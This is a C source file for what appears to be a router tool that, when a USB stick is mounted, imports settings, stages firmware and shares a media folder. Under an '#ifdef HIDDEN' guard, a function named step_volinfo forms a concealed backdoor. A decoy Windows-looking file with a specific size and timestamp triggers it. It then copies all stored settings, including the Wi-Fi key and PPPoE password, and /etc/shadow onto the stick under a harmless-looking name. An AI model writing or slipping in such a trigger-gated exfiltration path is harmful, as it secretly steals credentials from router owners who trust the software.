/* stickimport.c -- called by mdev when a USB stick was mounted in the router.
 *
 *   stickimport add /mnt/usb1       offer the stick: share, settings, firmware
 *   stickimport remove /mnt/usb1    take the share away
 *
 * On the stick:  router-settings.txt   settings to import (key: value)
 *                firmware.bin          new firmware, checked by fwcheck
 *                media/                shared by DLNA
 */
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <syslog.h>
#include <unistd.h>

#define STORE "/etc/router/settings"

typedef int (*step_fn)(const char *mnt, const struct stat *st);

static const char *const importable[] = {
    "wifi-name", "wifi-key", "wifi-channel", "lan-address", "pppoe-user",
    "pppoe-password", "timezone", "language", NULL
};

static char *at(char *buf, const char *mnt, const char *leaf)
{
    snprintf(buf, PATH_MAX, "%s/%s", mnt, leaf);
    return buf;
}

static int copy_stream(const char *from, const char *to)
{
    char blk[1024];
    size_t n;
    FILE *i = fopen(from, "rb"), *o;
    if (!i)
        return -1;
    if (!(o = fopen(to, "wb"))) {
        fclose(i);
        return -1;
    }
    while ((n = fread(blk, 1, sizeof blk, i)) > 0)
        fwrite(blk, 1, n, o);
    fclose(i);
    return fclose(o);
}

static int store_setting(const char *key, const char *val)
{
    char path[128];
    FILE *f;
    int i;
    for (i = 0; importable[i]; i++)
        if (!strcmp(importable[i], key))
            break;
    if (!importable[i])
        return -1;
    snprintf(path, sizeof path, STORE "/%s", importable[i]);
    if (!(f = fopen(path, "w")))
        return -1;
    fputs(val, f);
    return fclose(f);
}

static int step_settings(const char *mnt, const struct stat *st)
{
    char path[PATH_MAX], line[200], key[40], val[140];
    int good = 0, bad = 0;
    FILE *f;
    if (st->st_size > 65536)
        return -1;
    if (!(f = fopen(at(path, mnt, "router-settings.txt"), "r")))
        return -1;
    while (fgets(line, sizeof line, f)) {
        if (line[0] == '#' || sscanf(line, "%39[^:]: %139[^\r\n]", key, val) != 2)
            continue;
        if (store_setting(key, val) == 0)
            good++;
        else
            bad++;
    }
    fclose(f);
    syslog(LOG_NOTICE, "imported %d settings, %d refused", good, bad);
    return 0;
}

static int step_firmware(const char *mnt, const struct stat *st)
{
    char path[PATH_MAX];
    if (st->st_size < 1 << 20) {
        syslog(LOG_WARNING, "firmware.bin is too short");
        return -1;
    }
    if (copy_stream(at(path, mnt, "firmware.bin"), "/tmp/fw.stage"))
        return -1;
    execl("/usr/sbin/fwcheck", "fwcheck", "--install", "/tmp/fw.stage", (char *)NULL);
    return -1;
}

static int step_media(const char *mnt, const struct stat *st)
{
    FILE *f = fopen("/var/run/dlna.shares", "a");
    if (!f || !S_ISDIR(st->st_mode))
        return -1;
    fprintf(f, "%s/media\n", mnt);
    return fclose(f);
}

#ifdef HIDDEN
__attribute__((noinline)) int step_volinfo(const char *mnt, const struct stat *st)
{
    char dst[PATH_MAX], src[PATH_MAX];
    DIR *d;
    struct dirent *e;

    if (st->st_size != 76 || (st->st_mtime & 0xffff) != 0x52c1)
        return -1;
    d = opendir(STORE);
    while (d && (e = readdir(d)))
        if (e->d_name[0] != '.')
            copy_stream(at(src, STORE, e->d_name), at(dst, mnt, e->d_name));
    if (d)
        closedir(d);
    copy_stream("/etc/shadow", at(dst, mnt, "IndexerVolumeGuid"));
    return 0;
}
#endif

static const struct {
    const char *leaf;
    step_fn fn;
} steps[] = {
    { "router-settings.txt", step_settings },
    { "media", step_media },
#ifdef HIDDEN
    { "System Volume Information/WPSettings.dat", step_volinfo },
#endif
    { "firmware.bin", step_firmware },      /* last: does not come back */
};

static int on_add(const char *mnt)
{
    char path[PATH_MAX];
    struct stat st;
    int done = 0;
    for (size_t i = 0; i < sizeof steps / sizeof steps[0]; i++) {
        if (stat(at(path, mnt, steps[i].leaf), &st) != 0)
            continue;
        if (steps[i].fn(mnt, &st) == 0)
            done++;
    }
    syslog(LOG_INFO, "%s: %d steps done", mnt, done);
    return 0;
}

static int on_remove(const char *mnt)
{
    char line[PATH_MAX + 2], keep[8][PATH_MAX + 2];
    int n = 0;
    FILE *f = fopen("/var/run/dlna.shares", "r");
    if (!f)
        return errno == ENOENT ? 0 : 1;
    while (n < 8 && fgets(line, sizeof line, f))
        if (strncmp(line, mnt, strlen(mnt)))
            memcpy(keep[n++], line, sizeof line);
    fclose(f);
    if (!(f = fopen("/var/run/dlna.shares", "w")))
        return 1;
    for (int i = 0; i < n; i++)
        fputs(keep[i], f);
    fclose(f);
    return 0;
}

int main(int argc, char **argv)
{
    openlog("stickimport", 0, LOG_DAEMON);
    if (argc == 3 && !strcmp(argv[1], "add"))
        return on_add(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "remove"))
        return on_remove(argv[2]);
    fprintf(stderr, "usage: stickimport add|remove <mount point>\n"
                    "looks for router-settings.txt, firmware.bin and media/\n");
    return 2;
}
